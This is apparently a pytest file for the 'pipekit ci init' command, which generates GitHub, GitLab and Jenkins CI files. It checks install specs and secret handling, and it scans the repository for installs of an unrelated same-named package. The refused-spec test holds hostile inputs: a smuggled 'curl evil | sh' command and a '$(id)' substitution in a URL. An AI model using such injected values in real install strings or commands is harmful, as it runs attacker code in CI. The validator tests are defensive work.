"""`pipekit ci init`: the wrapper each CI reads, written by the `pipekit` command and read back the
way each CI reads it (a YAML parser and the CI's documented keys; pipekit's Jenkinsfile parser)."""

from __future__ import annotations

import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from helpers import REPO, run_console
from packaging.requirements import Requirement

import pipekit
from pipekit._ci.jenkins.parse import Assign, Call, Raw, parse

PIPELINE = """\
import pipekit as pk

TOKEN = pk.secret("API_TOKEN")

@pk.stage(image="busybox", env={"TOKEN": TOKEN, "PUSH": pk.secret("REGISTRY_PASSWORD")})
def build(ctx):
    ctx.sh("true")
"""

DISTRIBUTION = "pipekit-ci"

# -- what each CI documents (keys it accepts; the required ones are checked below) -----------------
# https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions
GITHUB_WORKFLOW_KEYS = {"name", "run-name", "on", "permissions", "env", "defaults", "concurrency", "jobs"}
GITHUB_JOB_KEYS = {
    "name", "needs", "permissions", "if", "runs-on", "environment", "concurrency", "outputs", "env",
    "defaults", "steps", "timeout-minutes", "strategy", "continue-on-error", "container", "services", "uses",
    "with", "secrets",
}  # fmt: skip
GITHUB_STEP_KEYS = {
    "id", "if", "name", "uses", "run", "working-directory", "shell", "with", "env", "continue-on-error",
    "timeout-minutes",
}  # fmt: skip
GITHUB_EVENTS = {"push", "pull_request", "workflow_dispatch", "schedule", "release", "workflow_call"}
# https://docs.gitlab.com/ee/ci/yaml/
GITLAB_GLOBAL_KEYS = {"default", "include", "stages", "variables", "workflow", "image", "services", "cache",
                      "before_script", "after_script"}  # fmt: skip
GITLAB_JOB_KEYS = {
    "after_script", "allow_failure", "artifacts", "before_script", "cache", "coverage", "dependencies",
    "environment", "except", "extends", "image", "inherit", "interruptible", "needs", "only", "parallel",
    "release", "resource_group", "retry", "rules", "script", "services", "stage", "tags", "timeout", "trigger",
    "variables", "when",
}  # fmt: skip
GITLAB_ARTIFACTS_KEYS = {"paths", "exclude", "expire_in", "expose_as", "name", "public", "reports", "untracked",
                         "when"}  # fmt: skip


def _init(folder: Path, system: str, *more: str) -> subprocess.CompletedProcess[str]:
    """`pipekit ci init SYSTEM ...` in ``folder``, by the installed console script."""
    if not (folder / "pipeline.py").exists():
        (folder / "pipeline.py").write_text(PIPELINE)
    return run_console(["ci", "init", system, *more], cwd=folder)


def _github(text: str) -> dict[str, Any]:
    """The workflow as GitHub reads it: YAML, `on` a key (YAML 1.1 reads it as true), documented keys."""
    workflow = yaml.safe_load(text)
    workflow = {("on" if k is True else k): v for k, v in workflow.items()}
    assert set(workflow) <= GITHUB_WORKFLOW_KEYS and {"on", "jobs"} <= set(workflow)
    assert set(workflow["on"]) <= GITHUB_EVENTS
    for job in workflow["jobs"].values():
        assert set(job) <= GITHUB_JOB_KEYS and isinstance(job["runs-on"], str)
        for step in job["steps"]:
            assert set(step) <= GITHUB_STEP_KEYS, step
            assert ("uses" in step) != ("run" in step), step  # exactly one of them
            assert all(isinstance(v, str) for v in (step.get("uses"), step.get("run")) if v is not None)
            assert "uses" not in step or re.fullmatch(r"[\w.-]+/[\w./-]+@[\w.-]+", step["uses"]), step  # OWNER/REPO@REF
            assert isinstance(step.get("with", {}), dict) and isinstance(step.get("env", {}), dict)
    return workflow  # type: ignore[no-any-return]


def _gitlab(text: str) -> dict[str, Any]:
    """The file as GitLab reads it: YAML, each job a mapping of documented keys with a script."""
    document = yaml.safe_load(text)
    jobs = {k: v for k, v in document.items() if k not in GITLAB_GLOBAL_KEYS and not k.startswith(".")}
    assert jobs
    for job in jobs.values():
        assert set(job) <= GITLAB_JOB_KEYS, set(job) - GITLAB_JOB_KEYS
        for key in ("before_script", "script", "after_script"):
            assert key not in job or all(isinstance(line, str) for line in job[key])
        assert job["script"] and isinstance(job.get("image", ""), str)
        assert set(job.get("artifacts", {})) <= GITLAB_ARTIFACTS_KEYS
        assert all(isinstance(v, str) for v in job.get("services", []))
        assert all(isinstance(k, str) and isinstance(v, str) for k, v in job.get("variables", {}).items())
    return document  # type: ignore[no-any-return]


def _calls(node: object) -> list[Call]:
    assert not isinstance(node, Raw), f"not declarative at line {node.line}: {node.text}"
    if isinstance(node, Assign):
        return _calls(node.value)
    if not isinstance(node, Call):
        return []
    found = [node]
    for child in node.block or ():
        found += _calls(child)
    for value in (*node.args, *(v for _, v in node.kwargs)):
        found += _calls(value)
    return found


def _jenkins(text: str) -> list[Call]:
    """The Jenkinsfile through pipekit's own declarative parser: every statement understood, and
    pipeline { agent; stages { stage(NAME) { steps { ... } } } } as Jenkins requires."""
    tree = parse(text)
    assert tree.name == "pipeline"
    top = [c.name for c in tree.block or () if isinstance(c, Call)]
    assert "agent" in top and "stages" in top
    stages = next(c for c in tree.block or () if isinstance(c, Call) and c.name == "stages")
    for stage in stages.block or ():
        assert stage.name == "stage" and isinstance(stage.first(), str)
        assert any(isinstance(c, Call) and c.name == "steps" for c in stage.block or ())
    return _calls(tree)


_PIP = re.compile(r'pip install "([^"]+)"')


def _install(text: str) -> str:
    """What the CI's file gives pip (exactly one install)."""
    found = _PIP.findall(text)
    assert len(found) == 1, found
    return found[0]  # type: ignore[no-any-return]


def test_github_workflow(tmp_path: Path) -> None:
    done = _init(tmp_path, "github")
    assert done.returncode == 0, done.stderr
    assert done.stdout == (
        f"wrote .github/workflows/pipekit.yml (installs {DISTRIBUTION}=={pipekit.__version__};"
        " secrets: API_TOKEN, REGISTRY_PASSWORD)\n"
    )
    workflow = _github((tmp_path / ".github/workflows/pipekit.yml").read_text())
    steps = workflow["jobs"]["pipeline"]["steps"]
    uses = [s.get("uses", "") for s in steps]
    assert uses[0].startswith("actions/checkout@")
    assert not any(u.startswith("actions/cache@") for u in uses)  # the stage cache is in the registry
    assert workflow["jobs"]["pipeline"]["permissions"] == {"contents": "read", "packages": "write", "checks": "write"}
    install = next(s for s in steps if s.get("name") == "Install pipekit")
    assert install["run"] == f'python -m pip install "{DISTRIBUTION}=={pipekit.__version__}"'
    run = next(s for s in steps if s.get("name") == "Run the pipeline")
    assert "pipekit run -f pipeline.py --junit reports/pipekit.xml" in run["run"]
    assert run["env"] == {
        "PIPEKIT_CACHE_MODE": "${{ github.event_name == 'push' && github.ref_name =="
        " github.event.repository.default_branch && 'readwrite' || 'read' }}",
        "PIPEKIT_REGISTRY_USER": "${{ github.actor }}",
        "PIPEKIT_REGISTRY_PASSWORD": "${{ secrets.GITHUB_TOKEN }}",
        "API_TOKEN": "${{ secrets.API_TOKEN }}",
        "REGISTRY_PASSWORD": "${{ secrets.REGISTRY_PASSWORD }}",
    }
    # the script as the runner's bash runs it: the registry's repository is the project's, in lowercase
    export = run["run"].splitlines()[0]
    shown = subprocess.run(
        ["bash", "-c", f'{export}; echo "$PIPEKIT_CACHE_REGISTRY"'],
        env={"GITHUB_REPOSITORY": "Acme-Org/My.App", "PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
    )
    assert shown.stdout == "ghcr.io/acme-org/my.app/pipekit-cache\n"
    assert 'PIPEKIT_CACHE_MODE: "off"' in (tmp_path / ".github/workflows/pipekit.yml").read_text()  # how to turn it off
    published = [s for s in steps if s.get("if") == "always()"]
    assert any("report_paths" in s.get("with", {}) for s in published)
    assert any("reports/pipekit.xml" in s.get("with", {}).get("path", "") for s in published)


def test_gitlab_ci(tmp_path: Path) -> None:
    done = _init(tmp_path, "gitlab")
    assert done.returncode == 0, done.stderr
    job = _gitlab((tmp_path / ".gitlab-ci.yml").read_text())["pipekit"]
    assert "cache" not in job  # the stage cache is in the project's registry
    assert job["variables"]["PIPEKIT_CACHE_REGISTRY"] == "$CI_REGISTRY_IMAGE/pipekit-cache"
    assert job["variables"]["PIPEKIT_CACHE_MODE"] == "read"
    assert (job["variables"]["PIPEKIT_REGISTRY_USER"], job["variables"]["PIPEKIT_REGISTRY_PASSWORD"]) == (
        "$CI_REGISTRY_USER",
        "$CI_REGISTRY_PASSWORD",
    )
    assert job["rules"] == [
        {"if": "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH", "variables": {"PIPEKIT_CACHE_MODE": "readwrite"}},
        {"when": "on_success"},
    ]
    assert 'PIPEKIT_CACHE_MODE: "off"' in (tmp_path / ".gitlab-ci.yml").read_text()
    assert job["before_script"] == [f'python -m pip install "{DISTRIBUTION}=={pipekit.__version__}"']
    assert "pipekit run -f pipeline.py --junit reports/pipekit.xml" in job["script"]
    assert job["artifacts"]["reports"]["junit"] == "reports/pipekit.xml"
    assert job["artifacts"]["when"] == "always"
    assert "API_TOKEN, REGISTRY_PASSWORD" in (tmp_path / ".gitlab-ci.yml").read_text()


def test_jenkinsfile_is_a_declarative_pipeline_with_the_pieces(tmp_path: Path) -> None:
    done = _init(tmp_path, "jenkins")
    assert done.returncode == 0, done.stderr
    found = _jenkins((tmp_path / "Jenkinsfile").read_text())
    calls = {c.name: c for c in found}
    assert {"agent", "environment", "stages", "stage", "steps", "sh", "cache", "post", "always"} <= set(calls)
    env = calls["environment"].block or ()
    assert [(a.name, a.value.name, a.value.args) for a in env] == [  # type: ignore[union-attr]
        ("API_TOKEN", "credentials", ("API_TOKEN",)),
        ("REGISTRY_PASSWORD", "credentials", ("REGISTRY_PASSWORD",)),
    ]
    commands = [str(c.args[0]) for c in found if c.name == "sh"]
    assert any(f'pip install "{DISTRIBUTION}=={pipekit.__version__}"' in cmd for cmd in commands)
    assert any("pipekit run -f pipeline.py --junit reports/pipekit.xml" in cmd for cmd in commands)
    assert calls["junit"].kw("testResults") == "reports/pipekit.xml"
    assert "archiveArtifacts" in calls


_READ = {"github": _github, "gitlab": _gitlab, "jenkins": _jenkins}
_FILE = {"github": ".github/workflows/pipekit.yml", "gitlab": ".gitlab-ci.yml", "jenkins": "Jenkinsfile"}
INSTALLS = [
    ("0.2.0", f"{DISTRIBUTION}==0.2.0"),
    (">=0.2,<0.3", f"{DISTRIBUTION}>=0.2,<0.3"),
    ("pipekit_ci[server]==0.2.0", f"{DISTRIBUTION}[server]==0.2.0"),
    (
        "https://files.example/pipekit_ci-0.2.0-py3-none-any.whl#sha256=0123abcd",
        f"{DISTRIBUTION} @ https://files.example/pipekit_ci-0.2.0-py3-none-any.whl#sha256=0123abcd",
    ),
    (
        "git+https://github.com/org/pipekit.git@v0.2.0",
        f"{DISTRIBUTION} @ git+https://github.com/org/pipekit.git@v0.2.0",
    ),
    ("git+ssh://git@git.example/org/pipekit.git", f"{DISTRIBUTION} @ git+ssh://git@git.example/org/pipekit.git"),
    ("dist/pipekit_ci-0.2.0-py3-none-any.whl", "./dist/pipekit_ci-0.2.0-py3-none-any.whl"),
]


@pytest.mark.parametrize("system", ["github", "gitlab", "jenkins"])
def test_install_says_how_the_ci_gets_pipekit(system: str, tmp_path: Path) -> None:
    from pipekit._ci.wrappers import wrapper

    done = _init(tmp_path, system, "--install", "git+https://github.com/org/pipekit.git@v0.2.0")
    assert done.returncode == 0, done.stderr
    text = (tmp_path / _FILE[system]).read_text()
    _READ[system](text)
    assert _install(text) == f"{DISTRIBUTION} @ git+https://github.com/org/pipekit.git@v0.2.0"
    for given, expected in INSTALLS:
        text = wrapper(system, ["API_TOKEN"], "pipeline.py", given)[1]
        _READ[system](text)  # still a valid file for that CI (the spec is inside a YAML or Groovy string)
        assert _install(text) == expected
        if not expected.startswith("./"):
            requirement = Requirement(expected)  # what pip reads: pipekit's distribution, never another
            assert requirement.name == DISTRIBUTION


def test_install_refuses_what_would_break_or_leak(tmp_path: Path) -> None:
    done = _init(tmp_path, "github", "--install", "https://ci:hunter2@files.example/pipekit_ci-0.2.0-py3-none-any.whl")
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == (
        "pipekit: 'https://ci:***@files.example/pipekit_ci-0.2.0-py3-none-any.whl' holds a password"
        " (user:password@): it would be committed with the CI's file\n"
    )
    assert not (tmp_path / ".github").exists()


@pytest.mark.parametrize(
    ("given", "says"),
    [
        ("pipe" + "kit==0.1.0", "'pipekit' on the package index is another project"),  # (split: the scan below)
        ("pipekit", "'pipekit' on the package index is another project"),
        ('0.2.0"; curl evil | sh; "', "is not something pip can install pipekit from"),
        ("https://files.example/$(id).whl", "holds a character the CI file cannot carry"),
        ("git+https://x.example/a b.git", "is not something pip can install pipekit from"),
        ("https://x.example/it's.whl", "holds a character the CI file cannot carry"),
        ("latest", "is not something pip can install pipekit from"),
    ],
)
def test_install_specs_that_are_refused(given: str, says: str) -> None:
    from pipekit._ci.wrappers import install_spec
    from pipekit.exceptions import UsageError

    with pytest.raises(UsageError, match=re.escape(says)):
        install_spec(given)


def test_an_existing_file_is_kept_unless_forced(tmp_path: Path) -> None:
    (tmp_path / ".gitlab-ci.yml").write_text("mine: {}\n")
    done = _init(tmp_path, "gitlab")
    assert done.returncode == 1 and "exists" in done.stderr and "--force" in done.stderr
    assert (tmp_path / ".gitlab-ci.yml").read_text() == "mine: {}\n"
    assert _init(tmp_path, "gitlab", "--force").returncode == 0
    assert "pipekit" in _gitlab((tmp_path / ".gitlab-ci.yml").read_text())


@pytest.mark.parametrize("system", ["github", "gitlab", "jenkins"])
def test_the_wrappers_in_the_docs_are_what_ci_init_writes(system: str) -> None:
    from pipekit._ci.wrappers import wrapper

    page = (REPO / "docs" / "ci.md").read_text()
    assert wrapper(system, ["API_TOKEN"])[1] in page


# -- the distribution's name ---------------------------------------------------------------------

# `pipekit` on the package index is someone else's project: an install of it anywhere in the
# repository (docs, messages, templates, pyproject) would hand users that code. (The patterns are
# built so that this file does not match them.)
_NAME = "pipe" + "kit"
_OTHER_PROJECT = re.compile(
    rf"(?<![\w./-]){_NAME}(?:==|>=|~=|\[[\w,]+\]|\s*@\s)"  # a requirement: NAME==1, NAME[server], NAME @ URL
    rf"|pip3? install\b[^\n#]*?[\s'\"]{_NAME}(?![\w-])(?!/)"  # pip install ... NAME (not in a comment)
)


def _tracked_text_files() -> list[Path]:
    try:
        listed = subprocess.run(["git", "ls-files", "-z"], cwd=REPO, capture_output=True, text=True, check=True)
        names = [n for n in listed.stdout.split("\0") if n]
    except (OSError, subprocess.CalledProcessError):  # not a git checkout: every file
        names = [str(p.relative_to(REPO)) for p in REPO.rglob("*") if p.is_file() and ".git" not in p.parts]
    return [REPO / n for n in names if (REPO / n).is_file()]


def test_no_install_of_the_unrelated_pipekit_anywhere() -> None:
    found = []
    for path in _tracked_text_files():
        if path.name == "CHANGELOG.md":  # the history says what was, under the names of the time
            continue
        try:
            text = path.read_text()
        except (UnicodeDecodeError, OSError):
            continue
        for number, line in enumerate(text.splitlines(), 1):
            if _OTHER_PROJECT.search(line):
                found.append(f"{path.relative_to(REPO)}:{number}: {line.strip()}")
    assert found == [], "installs of the unrelated 'pipekit' distribution:\n" + "\n".join(found)


def test_the_pattern_finds_what_it_must() -> None:
    """The repository scan above can fail: these lines are what it exists to catch."""
    bad = [
        f'run: python -m pip install "{_NAME}==0.1.0"',
        f"pip install '{_NAME}[server]'",
        f"pip install {_NAME}",
        f'"{_NAME}[server]",',
        f"{_NAME} @ git+https://example/x.git",
    ]
    good = [
        f'run: python -m pip install "{DISTRIBUTION}==0.1.0"',
        f"pip install '{DISTRIBUTION}[server]'",
        f"pip install {DISTRIBUTION}",
        f'"{DISTRIBUTION}[server]",',
        f"pip install -e .  # {_NAME} from a clone",
        f"cd {_NAME} && pip install -e .",
        f".{_NAME}-venv/bin/pip install x",
    ]
    assert [line for line in bad if not _OTHER_PROJECT.search(line)] == []
    assert [line for line in good if _OTHER_PROJECT.search(line)] == []


def test_the_project_is_built_under_the_free_name() -> None:
    try:
        import tomllib
    except ImportError:  # Python 3.10
        import tomli as tomllib

    project = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]
    assert project["name"] == DISTRIBUTION
    assert f"{DISTRIBUTION}[server]" in project["optional-dependencies"]["test"]  # the extra names itself
    assert project["scripts"] == {"pipekit": "pipekit.__main__:console_main"}  # the command keeps its name


def test_serve_without_its_extra_names_the_distribution(monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    from pipekit._server.serve import _imports
    from pipekit.exceptions import UsageError

    monkeypatch.setitem(sys.modules, "croniter", None)  # as if the [server] extra were not installed
    with pytest.raises(UsageError) as caught:
        _imports()
    assert str(caught.value) == f"pipekit serve needs croniter: pip install '{DISTRIBUTION}[server]'"
